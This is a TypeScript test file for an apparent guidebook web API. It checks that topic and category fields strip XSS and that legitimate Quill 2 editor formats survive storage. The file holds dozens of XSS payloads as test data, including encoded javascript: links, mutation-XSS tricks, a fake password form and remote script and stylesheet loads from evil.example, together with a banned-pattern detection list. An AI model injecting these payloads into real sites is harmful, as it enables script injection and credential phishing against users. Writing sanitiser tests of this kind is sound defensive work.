/**
 * Stored content is safe to render as HTML: XSS vectors go in through the topic and
 * category calls, come back through the list calls, and nothing executable survives.
 * Legitimate Quill 2 output for every editor format survives unchanged in meaning.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { MESSAGES, type TCategory, type TTopic } from '@guidebook/contract';
import { getTestServer } from './helpers/test-app.ts';
import { api, buildAccount, buildCategory, buildFile, buildGuide } from './helpers/factories.ts';

let idGuide: number;
let idCategory: number;
let idFile: number;

const t = await getTestServer();
const host = await buildAccount(t.app);

beforeAll(async () => {
  const category = await buildCategory(t.app, host, {
    id_guide: (await buildGuide(t.app, host, { title: 'XSS house' })).id_guide,
    name: 'Main',
    image: '<i class="fa fa-home"></i>',
  });
  idGuide = category.id_guide;
  idCategory = category.id_guide_content;
  idFile = (await buildFile(t.app, host, { name: 'a.jpg' })).id_file_public;
});

const VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<p onmouseover="alert(1)">hover</p>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">b</a>',
  '<a href="&#106;avascript:alert(1)">c</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">d</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">e</a>',
  '<a href="java&#x09;script:alert(1)">f</a>',
  '<a href=" \n javascript:alert(1)">g</a>',
  '<a href="jav\tascript:alert(1)">h</a>',
  '<a href="javascript&colon;alert(1)">i</a>',
  '<a href="vbscript:msgbox(1)">j</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">k</a>',
  '<a href="//evil.example/">l</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">math</math>',
  '<span style="color: expression(alert(1))">m</span>',
  '<span style="background-color: url(javascript:alert(1))">n</span>',
  '<span style="behavior: url(xss.htc); color: red">o</span>',
  '<span style="background-image: url(\'javascript:alert(1)\')">p</span>',
  '<style>@import "https://evil.example/x.css"; body { behavior: url(x.htc) }</style>',
  '<iframe src="https://evil.example/embed/x"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe class="ql-video" src="//evil.example/embed/x"></iframe>',
  '<iframe class="ql-video" src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe class="ql-video" src="http://www.youtube.com/embed/x"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<!--<script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)//',
  '<div><p><b onclick=alert(1)>unclosed',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="https://evil.example/track.png">',
  '<img src="/api/files/../../api/users/me">',
  '<img src="/api/files/a.png" onload="alert(1)" style="color:red">',
  '<a href="https://ok.example/" onclick="alert(1)" target="_self">ok</a>',
  '<details open ontoggle=alert(1)>d</details>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<li data-list="bullet" onclick="alert(1)">li</li>',
  '<span class="ql-formula" data-value="x" onmouseover="alert(1)">f</span>',
  '<p class="ql-align-center evil" id="x" style="position:fixed;top:0">styled</p>',
];

/** The tags stored HTML may contain (the editor's formats, nothing more), and each attribute's tags. */
const INLINE_TAGS = ['span', 'strong', 'em', 'u', 's', 'code', 'sub', 'sup', 'a'];
const BLOCK_TAGS = ['p', 'h1', 'h2', 'blockquote', 'li', 'pre', 'div'];
const TAGS = new Set([...BLOCK_TAGS, ...INLINE_TAGS, 'ol', 'ul', 'br', 'img', 'iframe']);
const CARRIERS = new Map<string, readonly string[]>([
  ['class', [...BLOCK_TAGS, ...INLINE_TAGS, 'iframe']],
  ['style', INLINE_TAGS],
  ['data-list', ['li']],
  ['data-language', ['pre', 'div']],
  ['data-value', ['span']],
  ['href', ['a']],
  ['rel', ['a']],
  ['target', ['a']],
  ['src', ['img', 'iframe']],
  ['alt', ['img']],
  ['width', ['img', 'iframe']],
  ['height', ['img', 'iframe']],
  ['frameborder', ['iframe']],
  ['allowfullscreen', ['iframe']],
]);

function attributeProblem(tag: string, name: string, value: string): string | null {
  const where = `<${tag} ${name}="${value}">`;
  if (!CARRIERS.get(name)?.includes(tag)) return `attribute not allowed: ${where}`;
  const ok =
    name === 'href'
      ? /^(?:https?:\/\/[^/]|mailto:|tel:|\/(?!\/)|#)/i.test(value)
      : name === 'target'
        ? value === '_blank'
        : name === 'src' && tag === 'img'
          ? /^(?:data:image\/(?:png|gif|jpeg|bmp|x-icon);base64,|\/api\/files\/(?!.*\.\.))/.test(value)
          : name === 'src' && tag === 'iframe'
            ? /^https:\/\/(?:www\.youtube\.com\/embed\/|player\.vimeo\.com\/video\/)/.test(value)
            : name === 'class'
              ? value.split(' ').every((c) => /^ql-[a-z0-9-]+$/.test(c))
              : name === 'style'
                ? value.split(';').every((declaration) => {
                    const [prop, colour] = declaration.split(':');
                    return (
                      ['color', 'background-color'].includes(prop ?? '') &&
                      /^(?:#[0-9a-f]{3,8}|rgba?\([0-9.,% ]+\)|[a-z]+)$/i.test(colour ?? '')
                    );
                  })
                : true;
  return ok ? null : `value not allowed: ${where}`;
}

/** Everything in stored HTML that is outside the policy; empty when the HTML is safe. */
function policyViolations(html: string): string[] {
  const problems: string[] = [];
  const lower = html.toLowerCase();
  for (const banned of [
    '<script',
    'javascript:',
    'vbscript:',
    'data:text',
    'expression(',
    'url(',
    'srcdoc',
    'evil.example',
  ])
    if (lower.includes(banned)) problems.push(`contains ${banned}`);
  if (/<[^>]*\son[a-z]+\s*=/i.test(html)) problems.push('event handler attribute');
  const tagRe = /<(\/?)([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/g;
  const rest = html.replace(tagRe, (_m, _close: string, tag: string, attributes: string) => {
    if (!TAGS.has(tag)) problems.push(`tag not allowed: <${tag}>`);
    for (const [, name, value] of attributes.matchAll(/\s+([a-z-]+)(?:="([^"]*)")?/g)) {
      const problem = attributeProblem(tag, name!, value ?? '');
      if (problem) problems.push(problem);
    }
    return '';
  });
  // Whatever is not a vetted tag is text, with < and > escaped.
  if (/[<>]/.test(rest)) problems.push('markup outside vetted tags');
  return problems;
}

function assertSafe(html: string): void {
  expect(policyViolations(html), html).toEqual([]);
}

/** Plain-text fields: no markup at all may come back. */
function assertPlain(text: string | null): void {
  if (text === null) return;
  expect(text).not.toMatch(/<[a-z!/?]/i);
  expect(text.toLowerCase()).not.toMatch(/onerror|<script|javascript:/);
}

/** Every topic of the category, whole as select gives it (the list carries the same). */
async function listTopics(): Promise<TTopic[]> {
  const items = (await api(t.app, host).get(`/content_topics/list?id_guide_content=${idCategory}`)).body.RES_RESULT as {
    id_guide_topic: number;
  }[];
  const topics: TTopic[] = [];
  for (const item of items)
    topics.push(
      (await api(t.app, host).get(`/content_topics/select?id_guide_topic=${item.id_guide_topic}`)).body.RES_RESULT,
    );
  return topics;
}

/** One topic of the category, whole as select gives it, once the list has shown it is there. */
async function listedTopic(id: number): Promise<TTopic> {
  const items = (await api(t.app, host).get(`/content_topics/list?id_guide_content=${idCategory}`)).body.RES_RESULT as {
    id_guide_topic: number;
  }[];
  expect(items.map((item) => item.id_guide_topic)).toContain(id);
  return (await api(t.app, host).get(`/content_topics/select?id_guide_topic=${id}`)).body.RES_RESULT;
}

describe('stored content is safe', () => {
  it('has at least 30 vectors, each of which breaks the policy as sent', () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(30);
    for (const vector of VECTORS) expect(policyViolations(vector), vector).not.toEqual([]);
  });

  it(`keeps none of ${VECTORS.length} XSS vectors in topics created through the API`, async () => {
    const ids = new Map<number, string>();
    for (const vector of VECTORS) {
      const res = await api(t.app, host).post('/content_topics/create', {
        id_guide_content: idCategory,
        name: `Title ${vector}`,
        description: vector,
        comment: vector,
        content: `<p>Before</p>${vector}`,
        id_file_public: idFile,
      });
      expect(res.status, vector).toBe(201);
      ids.set(res.body.RES_RESULT.id_guide_topic, vector);
    }
    const stored = await listTopics();
    expect(stored.length).toBe(VECTORS.length);
    for (const topic of stored) {
      const vector = ids.get(topic.id_guide_topic)!;
      assertSafe(topic.content);
      expect(topic.content, vector).toContain('<p>Before</p>');
      expect(topic.name.startsWith('Title'), vector).toBe(true);
      assertPlain(topic.name);
      assertPlain(topic.description);
      assertPlain(topic.comment);
    }
  });

  // A modify, a list and a select per vector.
  it('keeps none of them when they arrive through topic modify', async () => {
    const created = await api(t.app, host).post('/content_topics/create', {
      id_guide_content: idCategory,
      name: 'Modify me',
      content: '<p>Start</p>',
      id_file_public: idFile,
    });
    const id = created.body.RES_RESULT.id_guide_topic;
    for (const vector of VECTORS) {
      const res = await api(t.app, host).put('/content_topics/modify', {
        id_guide_topic: id,
        name: `Changed ${vector}`,
        description: vector,
        content: `<p>After</p>${vector}`,
      });
      expect(res.status, vector).toBe(200);
      const topic = await listedTopic(id);
      assertSafe(topic.content);
      expect(topic.content).toContain('<p>After</p>');
      assertPlain(topic.name);
      assertPlain(topic.description);
    }
  }, 120_000);

  it('keeps no markup in category names, descriptions and comments, and refuses any icon that is not icon markup', async () => {
    for (const vector of VECTORS) {
      const created = await api(t.app, host).post('/content_categories/create', {
        id_guide: idGuide,
        // Names are at most 120 characters; a cut-off vector is still hostile input.
        name: `Safe ${vector}`.slice(0, 120),
        description: vector,
        comment: vector,
        image: '<i class="fa fa-star"></i>',
      });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
      const modified = await api(t.app, host).put('/content_categories/modify', {
        id_guide_content: created.body.RES_RESULT.id_guide_content,
        description: `Changed ${vector}`,
      });
      expect(modified.status, vector).toBe(200);
      const icon = await api(t.app, host).put('/content_categories/modify', {
        id_guide_content: created.body.RES_RESULT.id_guide_content,
        image: vector,
      });
      expect(icon.body.RES_OTHERS.FIELDS, vector).toEqual({ image: MESSAGES.category.iconInvalid });
      const iconAround = await api(t.app, host).post('/content_categories/create', {
        id_guide: idGuide,
        name: 'Icon',
        image: `<i class="fa fa-home"></i>${vector}`,
      });
      expect(iconAround.status, vector).toBe(422);
    }
    const list = (await api(t.app, host).get(`/content_categories/list?id_guide=${idGuide}`)).body
      .RES_RESULT as TCategory[];
    expect(list.length).toBe(VECTORS.length + 1);
    for (const c of list) {
      assertPlain(c.name);
      assertPlain(c.description);
      assertPlain(c.comment);
      expect(c.image).toMatch(/^<i class="fa fa-(home|star)"><\/i>$/);
    }
  });
});

/** Quill 2 output for each format of the topic editor (EDITOR.FORMATS), and what is stored. */
const PNG =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg==';
const GIF = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
/** Stored content with each library image URL (where pasted images go) written as LIBRARY. */
const stored = (html: string) => html.replace(/\/api\/files\/public\/raw\/[0-9a-f-]{36}\/[A-Za-z0-9._-]+/g, 'LIBRARY');
const QUILL: [format: string, input: string, stored: string][] = [
  ['bold', '<p><strong>bold</strong></p>', '<p><strong>bold</strong></p>'],
  ['italic', '<p><em>italic</em></p>', '<p><em>italic</em></p>'],
  ['underline', '<p><u>under</u></p>', '<p><u>under</u></p>'],
  ['strike', '<p><s>strike</s></p>', '<p><s>strike</s></p>'],
  [
    'link',
    '<p><a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer" target="_blank">web</a> <a href="mailto:ann@example.com" rel="noopener noreferrer" target="_blank">mail</a> <a href="tel:+441234567890" rel="noopener noreferrer" target="_blank">call</a></p>',
    '<p><a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer" target="_blank">web</a> <a href="mailto:ann@example.com" rel="noopener noreferrer" target="_blank">mail</a> <a href="tel:+441234567890" rel="noopener noreferrer" target="_blank">call</a></p>',
  ],
  [
    'link without target',
    '<p><a href="http://example.com/">plain</a></p>',
    '<p><a href="http://example.com/" rel="noopener noreferrer" target="_blank">plain</a></p>',
  ],
  [
    'color',
    '<p><span style="color: rgb(230, 0, 0);">red</span> <span style="color: #06c;">blue</span></p>',
    '<p><span style="color:rgb(230, 0, 0)">red</span> <span style="color:#06c">blue</span></p>',
  ],
  [
    'background',
    '<p><span style="background-color: rgb(255, 255, 0); color: navy;">marked</span></p>',
    '<p><span style="background-color:rgb(255, 255, 0);color:navy">marked</span></p>',
  ],
  [
    'font',
    '<p><span class="ql-font-serif">serif</span> <span class="ql-font-monospace">mono</span></p>',
    '<p><span class="ql-font-serif">serif</span> <span class="ql-font-monospace">mono</span></p>',
  ],
  [
    'size',
    '<p><span class="ql-size-small">s</span><span class="ql-size-large">l</span><strong class="ql-size-huge">h</strong></p>',
    '<p><span class="ql-size-small">s</span><span class="ql-size-large">l</span><strong class="ql-size-huge">h</strong></p>',
  ],
  [
    'align',
    '<p class="ql-align-center">c</p><p class="ql-align-right">r</p><h2 class="ql-align-justify">j</h2>',
    '<p class="ql-align-center">c</p><p class="ql-align-right">r</p><h2 class="ql-align-justify">j</h2>',
  ],
  [
    'direction',
    '<p class="ql-align-right ql-direction-rtl">مرحبا</p>',
    '<p class="ql-align-right ql-direction-rtl">مرحبا</p>',
  ],
  ['header', '<h1>Welcome</h1><h2>Arrival</h2>', '<h1>Welcome</h1><h2>Arrival</h2>'],
  [
    'list',
    '<ol><li data-list="bullet"><span class="ql-ui" contenteditable="false"></span>one</li><li data-list="ordered"><span class="ql-ui" contenteditable="false"></span>two</li><li data-list="checked"><span class="ql-ui" contenteditable="false"></span>done</li><li data-list="unchecked"><span class="ql-ui" contenteditable="false"></span>todo</li></ol><ul><li>semantic</li></ul>',
    '<ol><li data-list="bullet"><span class="ql-ui"></span>one</li><li data-list="ordered"><span class="ql-ui"></span>two</li><li data-list="checked"><span class="ql-ui"></span>done</li><li data-list="unchecked"><span class="ql-ui"></span>todo</li></ol><ul><li>semantic</li></ul>',
  ],
  [
    'indent',
    '<p class="ql-indent-1">one</p><ol><li data-list="bullet" class="ql-indent-8"><span class="ql-ui" contenteditable="false"></span>eight</li></ol>',
    '<p class="ql-indent-1">one</p><ol><li data-list="bullet" class="ql-indent-8"><span class="ql-ui"></span>eight</li></ol>',
  ],
  ['blockquote', '<blockquote>Quiet after 10pm</blockquote>', '<blockquote>Quiet after 10pm</blockquote>'],
  ['code', '<p>Run <code>npm start</code></p>', '<p>Run <code>npm start</code></p>'],
  [
    'code-block',
    '<div class="ql-code-block-container" spellcheck="false"><div class="ql-code-block" data-language="plain">door code</div><div class="ql-code-block" data-language="plain">1234 &lt;enter&gt;</div></div><pre data-language="javascript">const a = 1 &amp;&amp; 2;</pre>',
    '<div class="ql-code-block-container"><div class="ql-code-block" data-language="plain">door code</div><div class="ql-code-block" data-language="plain">1234 &lt;enter&gt;</div></div><pre data-language="javascript">const a = 1 &amp;&amp; 2;</pre>',
  ],
  [
    // Pasted images are kept, moved into the library (their URL: LIBRARY, see stored()).
    'image',
    `<p><img src="${PNG}" width="120" height="80" alt="map"><img src="${GIF}"><img src="/api/files/abc/photo.jpg"></p>`,
    `<p><img src="LIBRARY" width="120" height="80" alt="map" /><img src="LIBRARY" /><img src="/api/files/abc/photo.jpg" /></p>`,
  ],
  [
    'video',
    '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0"></iframe><iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://player.vimeo.com/video/76979871"></iframe>',
    '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0"></iframe><iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://player.vimeo.com/video/76979871"></iframe>',
  ],
  [
    'formula',
    '<p><span class="ql-formula" data-value="e=mc^2">e=mc^2</span></p>',
    '<p><span class="ql-formula" data-value="e=mc^2">e=mc^2</span></p>',
  ],
  ['script', '<p>H<sub>2</sub>O and x<sup>2</sup></p>', '<p>H<sub>2</sub>O and x<sup>2</sup></p>'],
  ['paragraphs and breaks', '<p>Line</p><p><br></p><p>Next</p>', '<p>Line</p><p><br /></p><p>Next</p>'],
];

describe('legitimate editor output survives', () => {
  it.each(QUILL)('%s', async (_format, input, expected) => {
    const res = await api(t.app, host).post('/content_topics/create', {
      id_guide_content: idCategory,
      name: 'Formats',
      content: input,
      id_file_public: idFile,
    });
    expect(res.status).toBe(201);
    expect(stored(res.body.RES_RESULT.content)).toBe(expected);
    const listed = (await listTopics()).find((x) => x.id_guide_topic === res.body.RES_RESULT.id_guide_topic)!;
    expect(listed.content).toBe(res.body.RES_RESULT.content);
    assertSafe(listed.content);
  });
});
